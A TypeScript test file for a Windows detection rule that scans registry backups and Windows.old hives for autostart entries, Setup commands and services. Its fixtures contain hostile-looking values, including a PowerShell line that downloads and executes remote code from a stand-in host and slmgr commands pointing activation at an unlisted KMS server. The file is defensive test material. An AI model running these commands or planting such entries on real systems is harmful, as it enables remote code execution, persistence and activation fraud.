// Copies of the registry: backups and the Windows before, beside hives in use, which are for other rules.
import { test } from 'uvu';
import { pastStart } from '../../../rules/activation/past-start.ts';
import { windowsRuleTester } from '../../helpers/on-windows.ts';

const EVIL = 'cscript slmgr.vbs /skms kms.evil.example';
const RUN = 'Microsoft\\Windows\\CurrentVersion\\Run';
const BACKUP = '/Windows/System32/config/RegBack/SOFTWARE';
const SYSTEM_BACKUP = '/Windows/System32/config/RegBack/SYSTEM';
const OLD_USER = '/Windows.old/Users/me/NTUSER.DAT';
const service = (name: string) => `ControlSet001\\Services\\${name}`;
const policy = { kmsHosts: ['kms.corp.example'] };

windowsRuleTester(pastStart, {
  good: [
    { name: 'backups of Windows 10 1803 and later: empty files', policy, image: { files: { [BACKUP]: '', [SYSTEM_BACKUP]: '' } } },
    {
      name: 'a start of a vendor, a listed host, a service of a vendor that is a script',
      policy,
      image: {
        hives: {
          [BACKUP]: { [RUN]: { a: 'C:\\Program Files\\V\\v.exe', b: EVIL.replace('evil', 'corp'), c: '' } },
          [SYSTEM_BACKUP]: {
            [service('v')]: { ImagePath: 'cmd.exe /c C:\\V\\v.cmd', Start: 2 },
            [service('w')]: { ImagePath: 'C:\\Users\\Public\\w.exe', Start: 2, Type: 16 },
            [service('p')]: { ImagePath: 'C:\\P\\p.exe', Start: 2, Type: 16 },
            [`${service('p')}\\Parameters`]: { Port: '1688' },
          },
        },
      },
    },
    {
      name: 'hives in use',
      policy,
      image: { SOFTWARE: { [RUN]: { a: EVIL } }, hives: { '/Users/me/NTUSER.DAT': { [`Software\\${RUN}`]: { a: EVIL } } } },
    },
  ],
  bad: [
    {
      name: 'a backup of the machine, in both views, and one of the profile before logon',
      policy,
      image: {
        hives: {
          [BACKUP]: { [RUN]: { a: EVIL }, [`Wow6432Node\\${RUN}`]: { b: EVIL } },
          '/Windows/System32/config/RegBack/DEFAULT': { [`Software\\${RUN}`]: { c: EVIL } },
        },
      },
      findings: [
        { messageId: 'started', at: { hive: BACKUP, key: RUN, name: 'a' }, level: 'weak', evidence: EVIL },
        { messageId: 'started', at: { hive: BACKUP, key: `Wow6432Node\\${RUN}`, name: 'b' } },
        { messageId: 'started', at: { hive: '/Windows/System32/config/RegBack/DEFAULT', name: 'c' } },
      ],
    },
    {
      name: 'the Windows before: its user, its Setup, its services',
      policy,
      image: {
        hives: {
          [OLD_USER]: { [`Software\\${RUN}`]: { a: 'powershell -c "irm https://x.example/a | iex"' } },
          '/Windows.old/Windows/System32/config/SYSTEM': {
            Setup: { CmdLine: EVIL },
            [service('relay')]: { ImagePath: 'C:\\relay.exe -L 0.0.0.0:1688', Start: 2, Type: 16 },
            [service('other')]: { ImagePath: `cmd /c ${EVIL}`, Start: 2, Type: 16 },
          },
        },
      },
      findings: [
        { messageId: 'fetched', at: { hive: OLD_USER, name: 'a' } },
        { messageId: 'started', at: { key: 'Setup', name: 'CmdLine' } },
        { messageId: 'service', at: { key: service('relay'), name: 'ImagePath' }, says: 'relay listens at the port' },
        { messageId: 'service', at: { key: service('other'), name: 'ImagePath' }, severity: 'warning', says: 'other sends activation to' },
      ],
    },
    {
      name: 'a copy that is no hive is told, the others are read',
      policy,
      image: { files: { [SYSTEM_BACKUP]: 'no hive' }, hives: { [BACKUP]: { [RUN]: { a: EVIL } } } },
      findings: [{ messageId: 'started', at: { hive: BACKUP } }],
      unable: SYSTEM_BACKUP,
    },
  ],
});

test.run();
